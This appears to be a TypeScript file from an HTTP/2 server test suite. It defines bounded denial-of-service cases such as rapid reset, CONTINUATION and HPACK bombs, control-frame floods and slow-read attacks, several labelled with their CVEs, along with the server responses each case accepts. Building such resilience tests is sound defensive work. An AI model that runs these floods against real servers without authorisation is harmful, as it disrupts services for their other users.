/**
 * Attacks on the resources of a server (RFC 9113 section 10.5), each bounded in frames, so that it ends
 * where nothing stops it. A server may end the connection, refuse, or bear it: what it may not is die, grow
 * without bound, or leave its other clients waiting, which is tested around them.
 */
import type { Case, Requests } from './case.ts';
import {
  continuation,
  data,
  FLAG,
  frame,
  goaway,
  headers,
  openHeaders,
  PREFACE,
  ping,
  priority,
  rst,
  SETTING,
  settings,
  TYPE,
  windowUpdate,
} from './frames.ts';
import { indexed, kept, type Line } from './hpack.ts';
import type { RawPeer } from './peer.ts';

const BATCH = 100;
const WINDOW_MAX = 2 ** 31 - 1;
/** Server and client both may: the flood is over, and the connection goes on. */
const ANYTHING = [
  'alive',
  'GOAWAY ENHANCE_YOUR_CALM',
  'GOAWAY PROTOCOL_ERROR',
  'GOAWAY INTERNAL_ERROR',
  'GOAWAY FLOW_CONTROL_ERROR',
  'GOAWAY STREAM_CLOSED',
  'GOAWAY COMPRESSION_ERROR',
  'GOAWAY FRAME_SIZE_ERROR',
  'GOAWAY REFUSED_STREAM',
  'GOAWAY NO_ERROR',
  'RST_STREAM ENHANCE_YOUR_CALM',
  'RST_STREAM PROTOCOL_ERROR',
  'RST_STREAM REFUSED_STREAM',
  'RST_STREAM STREAM_CLOSED',
  'RST_STREAM INTERNAL_ERROR',
  'RST_STREAM FLOW_CONTROL_ERROR',
  'RST_STREAM CANCEL',
  'RST_STREAM NO_ERROR',
  'closed',
  '200',
  '400',
  '431',
];

type Rounds = (round: number, k: Requests) => readonly Buffer[];

interface Flood {
  readonly ours: string;
  readonly rounds: number;
  /** What is sent in each round. */
  readonly each: Rounds;
  readonly before?: (k: Requests) => readonly Buffer[];
  readonly watch?: 'alive' | number;
  /** The client does not read, and sends all in one piece. */
  readonly deaf?: true;
  readonly more?: Partial<Case>;
}

/** A flood of rounds, until it is over or the connection is. */
function flood(id: string, rule: string, what: string, f: Flood): Case {
  return {
    id: `a-${id}`,
    rule,
    what,
    send: (k) => f.before?.(k) ?? [],
    watch: async (peer, k) => {
      if (f.deaf === true) peer.pause();
      await pour(peer, k, f.rounds, f.each, f.deaf === true ? f.rounds : BATCH);
      if (f.deaf === true) peer.resume();
      return peer.outcome(f.watch ?? 'alive');
    },
    allows: ANYTHING,
    ours: f.ours,
    ...f.more,
  };
}

async function pour(
  peer: RawPeer,
  k: Requests,
  rounds: number,
  each: Rounds,
  atOnce = BATCH,
): Promise<void> {
  for (let from = 0; from < rounds && !peer.isClosed && !peer.isRefused; from += atOnce) {
    const batch: Buffer[] = [];
    for (let i = from; i < Math.min(rounds, from + atOnce); i += 1) batch.push(...each(i, k));
    await peer.flush(...batch);
    // What the server says to it is read before a write fails and takes it along.
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
}

/** Client streams count 1, 3, 5, ... */
function streamOf(round: number): number {
  return 2 * round + 1;
}

const NOTHING = Buffer.alloc(0);
const PIECE = Buffer.alloc(16_000, 'x');
const CALM = 'GOAWAY ENHANCE_YOUR_CALM';
const INTERNAL = 'GOAWAY INTERNAL_ERROR';

function manyLines(count: number, value: string): Line[] {
  return Array.from({ length: count }, (_, i): Line => [`x-${i}`, value]);
}

const RESETS: readonly Case[] = [
  flood(
    'rapid-reset',
    '9113 10.5',
    'rapid reset: requests that are reset at once (CVE-2023-44487)',
    {
      ours: INTERNAL,
      rounds: 5000,
      each: (i, k) => [headers(streamOf(i), k.get()), rst(streamOf(i), 8)],
    },
  ),
  flood('rapid-reset-open', '9113 10.5', 'the same with requests that wait for their body', {
    ours: INTERNAL,
    rounds: 5000,
    each: (i, k) => [openHeaders(streamOf(i), k.post()), rst(streamOf(i), 8)],
  }),
  flood(
    'you-reset-window',
    '9113 10.5',
    'a server made to reset by WINDOW_UPDATE of 0 (CVE-2025-8671)',
    {
      ours: 'GOAWAY PROTOCOL_ERROR',
      rounds: 5000,
      each: (i, k) => [openHeaders(streamOf(i), k.post()), windowUpdate(streamOf(i), 0)],
    },
  ),
  flood('you-reset-overflow', '9113 10.5', 'the same by a window beyond 2^31-1', {
    ours: 'GOAWAY FLOW_CONTROL_ERROR',
    rounds: 5000,
    each: (i, k) => [openHeaders(streamOf(i), k.post()), windowUpdate(streamOf(i), WINDOW_MAX)],
  }),
  flood('you-reset-data', '9113 10.5', 'the same by DATA behind END_STREAM', {
    ours: 'GOAWAY STREAM_CLOSED',
    rounds: 5000,
    each: (i, k) => [headers(streamOf(i), k.get()), data(streamOf(i), 'x')],
  }),
  flood('you-reset-length', '9113 10.5', 'the same by DATA beyond Content-Length', {
    ours: INTERNAL,
    rounds: 5000,
    each: (i, k) => [
      openHeaders(streamOf(i), k.post(['content-length', '1'])),
      data(streamOf(i), 'xxx'),
    ],
  }),
  flood(
    'you-reset-malformed',
    '9113 10.5',
    'the same by malformed requests, by a client that does not read',
    {
      ours: 'GOAWAY PROTOCOL_ERROR',
      rounds: 5000,
      each: (i, k) => [headers(streamOf(i), k.get(['connection', 'x']))],
      deaf: true,
    },
  ),
  flood('you-reset-trailers', '9113 10.5', 'the same by malformed trailers', {
    ours: 'GOAWAY PROTOCOL_ERROR',
    rounds: 5000,
    each: (i, k) => [openHeaders(streamOf(i), k.post()), headers(streamOf(i), k.get())],
  }),
  flood('you-reset-priority', '9113 10.5', 'the same by PRIORITY of a wrong length', {
    ours: 'GOAWAY FRAME_SIZE_ERROR',
    rounds: 5000,
    each: (i, k) => [
      openHeaders(streamOf(i), k.post()),
      frame(TYPE.PRIORITY, 0, streamOf(i), Buffer.alloc(4)),
    ],
  }),
];

const HEADS: readonly Case[] = [
  flood(
    'continuation',
    '9113 10.5.1',
    'an endless header block: CONTINUATION without END_HEADERS (CVE-2024-27316)',
    {
      ours: INTERNAL,
      rounds: 4000,
      before: (k) => [headers(1, k.get(), FLAG.END_STREAM)],
      each: () => [continuation(1, kept('x-a', 'x'.repeat(1000)), 0)],
      watch: 1,
    },
  ),
  flood('continuation-empty', '9113 10.5.1', 'the same with CONTINUATION of no octets', {
    ours: INTERNAL,
    rounds: 20_000,
    before: (k) => [headers(1, k.get(), FLAG.END_STREAM)],
    each: () => [continuation(1, NOTHING, 0)],
    watch: 1,
  }),
  {
    id: 'a-list-size',
    rule: '9113 10.5.1',
    what: 'a header list above SETTINGS_MAX_HEADER_LIST_SIZE',
    send: (k) => {
      const block = k.get(...manyLines(80, 'x'.repeat(1000)));
      const parts = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, i) =>
        block.subarray(i * 16_000, (i + 1) * 16_000),
      );
      return parts.map((part, i) => {
        const flags = i === parts.length - 1 ? FLAG.END_HEADERS : 0;
        return i === 0 ? headers(1, part, flags | FLAG.END_STREAM) : continuation(1, part, flags);
      });
    },
    watch: 1,
    allows: ANYTHING,
    ours: 'RST_STREAM ENHANCE_YOUR_CALM',
  },
  {
    id: 'a-list-count',
    rule: '9113 10.5.1',
    what: 'a thousand short fields',
    send: (k) => [headers(1, k.get(...manyLines(1000, '')))],
    watch: 1,
    allows: ANYTHING,
    ours: 'RST_STREAM ENHANCE_YOUR_CALM',
  },
  {
    id: 'a-hpack-bomb',
    rule: '9113 10.5.1',
    what: 'HPACK bomb: one entry of 4000 octets named 12,000 times, 48 MB from 16 kB',
    send: (k) => [
      headers(1, Buffer.concat([k.get(), kept('x-bomb', 'x'.repeat(3900))])),
      headers(3, Buffer.concat([k.get(), Buffer.alloc(12_000, indexed(62))])),
    ],
    watch: 3,
    allows: ANYTHING,
    ours: 'RST_STREAM ENHANCE_YOUR_CALM',
    reaches: 1,
  },
  flood('hpack-bombs', '9113 10.5.1', 'a hundred of them on one connection', {
    ours: 'RST_STREAM ENHANCE_YOUR_CALM',
    rounds: 100,
    before: (k) => [headers(1, Buffer.concat([k.get(), kept('x-bomb', 'x'.repeat(3900))]))],
    each: (i, k) => [
      headers(streamOf(i + 1), Buffer.concat([k.get(), Buffer.alloc(12_000, indexed(62))])),
    ],
    more: { reaches: 1 },
  }),
  {
    id: 'a-cookie-bomb',
    rule: '9113 8.2.3',
    what: 'one crumb of Cookie of 4000 octets named 12,000 times',
    send: (k) => [
      headers(1, Buffer.concat([k.get(), kept('cookie', 'x'.repeat(3900))])),
      headers(3, Buffer.concat([k.get(), Buffer.alloc(12_000, indexed(62))])),
    ],
    watch: 3,
    allows: ANYTHING,
    ours: 'RST_STREAM ENHANCE_YOUR_CALM',
    reaches: 1,
  },
  flood('table-size', '7541 4.2', 'the dynamic table set to 0 and back in every block', {
    ours: 'alive',
    rounds: 50,
    each: (i, k) => [
      headers(streamOf(i), Buffer.concat([Buffer.from('203fe11f', 'hex'), k.get()])),
    ],
    more: { reaches: 50 },
  }),
];

const FRAMES: readonly Case[] = [
  flood('settings', '9113 10.5', 'SETTINGS flood by a client that reads no ACK (CVE-2019-9515)', {
    ours: INTERNAL,
    rounds: 20_000,
    each: () => [settings([SETTING.INITIAL_WINDOW_SIZE, 65_535])],
    deaf: true,
  }),
  {
    id: 'a-settings-many',
    rule: '9113 10.5',
    what: 'one SETTINGS of 2700 parameters',
    send: () => [settings(...Array.from({ length: 2700 }, () => [4, 65_535] as const))],
    watch: 'alive',
    allows: ANYTHING,
    ours: CALM,
  },
  flood('settings-window', '9113 6.9.2', 'windows of a hundred streams made large and small', {
    ours: 'alive',
    rounds: 500,
    before: (k) => Array.from({ length: 100 }, (_, i) => openHeaders(streamOf(i), k.post())),
    each: (i) => [settings([SETTING.INITIAL_WINDOW_SIZE, i % 2 === 0 ? WINDOW_MAX : 0])],
  }),
  flood('ping', '9113 10.5', 'PING flood by a client that does not read (CVE-2019-9512)', {
    ours: INTERNAL,
    rounds: 40_000,
    each: () => [ping('flood')],
    deaf: true,
  }),
  flood('empty-data', '9113 10.5', 'DATA of no octets (CVE-2019-9518)', {
    ours: INTERNAL,
    rounds: 40_000,
    before: (k) => [openHeaders(1, k.post())],
    each: () => [data(1, NOTHING, 0)],
  }),
  flood('empty-headers', '9113 10.5', 'HEADERS of no octets', {
    ours: INTERNAL,
    rounds: 5000,
    each: (i) => [headers(streamOf(i), NOTHING)],
  }),
  flood('one-octet-data', '9113 10.5', 'a body in DATA of one octet', {
    ours: 'alive',
    rounds: 10_000,
    before: (k) => [openHeaders(1, k.post())],
    each: () => [data(1, 'x', 0)],
  }),
  flood('padding', '9113 10.5', 'DATA that is nothing but padding', {
    ours: 'alive',
    rounds: 3000,
    before: (k) => [openHeaders(1, k.post())],
    each: () => [
      frame(TYPE.DATA, FLAG.PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])),
    ],
  }),
  flood('priority', '9113 10.5', 'PRIORITY flood (CVE-2019-9513)', {
    ours: CALM,
    rounds: 40_000,
    each: (i) => [priority(streamOf(i % 1000), streamOf((i * 7) % 1000) + 2)],
  }),
  flood('window', '9113 10.5', 'WINDOW_UPDATE of 1, without end', {
    ours: 'alive',
    rounds: 40_000,
    each: () => [windowUpdate(0, 1)],
  }),
  flood('unknown', '9113 10.5', 'frames of an unknown type', {
    ours: CALM,
    rounds: 20_000,
    each: (i) => [frame(0xfa, 0xff, i, Buffer.alloc(16))],
  }),
  flood('goaway', '9113 6.8', 'GOAWAY flood, the last stream going up and down', {
    ours: 'GOAWAY PROTOCOL_ERROR',
    rounds: 1000,
    each: (i) => [goaway(i % 2, 0, 'going')],
  }),
];

const STREAMS: readonly Case[] = [
  {
    id: 'a-concurrency',
    rule: '9113 5.1.2',
    what: '2000 streams at once, before the SETTINGS that limit them are acknowledged',
    bare: true,
    send: () => [PREFACE, settings()],
    watch: async (peer, k) => {
      await pour(peer, k, 2000, (i) => [openHeaders(streamOf(i), k.post())]);
      return peer.outcome('alive');
    },
    allows: ANYTHING,
    ours: INTERNAL,
  },
  {
    id: 'a-half-open',
    rule: '9113 10.5',
    what: 'a hundred requests whose body never comes, then the client is gone',
    send: (k) => Array.from({ length: 100 }, (_, i) => openHeaders(streamOf(i), k.post())),
    watch: 'alive',
    allows: ANYTHING,
    ours: 'alive',
  },
  {
    id: 'a-slow-window',
    rule: '9113 10.5',
    what: 'thirty large answers asked for with a window of 0 (CVE-2019-9511)',
    settings: [[SETTING.INITIAL_WINDOW_SIZE, 0]],
    send: (k) => Array.from({ length: 30 }, (_, i) => headers(streamOf(i), k.get())),
    watch: async (peer) => {
      await peer.until(() => peer.isClosed || peer.heads.size >= 30);
      return peer.outcome('alive');
    },
    allows: ANYTHING,
    ours: 'alive',
    reaches: 30,
  },
  {
    id: 'a-slow-drip',
    rule: '9113 10.5',
    what: 'a large answer, its window opened octet by octet',
    settings: [[SETTING.INITIAL_WINDOW_SIZE, 0]],
    send: (k) => [headers(1, k.get())],
    watch: async (peer, k) => {
      await peer.outcome(1);
      await pour(peer, k, 3000, () => [windowUpdate(1, 1)]);
      return peer.outcome('alive');
    },
    allows: ANYTHING,
    ours: 'alive',
    reaches: 1,
  },
  {
    id: 'a-slow-tcp',
    rule: '9113 10.5',
    what: 'twenty large answers with open windows, to a client that does not read (CVE-2019-9517)',
    settings: [[SETTING.INITIAL_WINDOW_SIZE, WINDOW_MAX]],
    send: (k) => [
      windowUpdate(0, WINDOW_MAX - 65_535),
      ...Array.from({ length: 20 }, (_, i) => headers(streamOf(i), k.get())),
    ],
    watch: async (peer) => {
      await peer.outcome(1);
      peer.pause();
      await new Promise((resolve) => setTimeout(resolve, 300));
      peer.resume();
      return peer.outcome(39);
    },
    allows: ANYTHING,
    ours: '200',
    reaches: 20,
  },
  flood('body-never-ends', '9113 6.9', 'bodies beyond every window', {
    ours: 'GOAWAY FLOW_CONTROL_ERROR',
    rounds: 20_000,
    before: (k) => [openHeaders(1, k.post())],
    each: () => [data(1, PIECE, 0)],
    more: {},
  }),
];

export const ATTACKS: readonly Case[] = [...RESETS, ...HEADS, ...FRAMES, ...STREAMS];
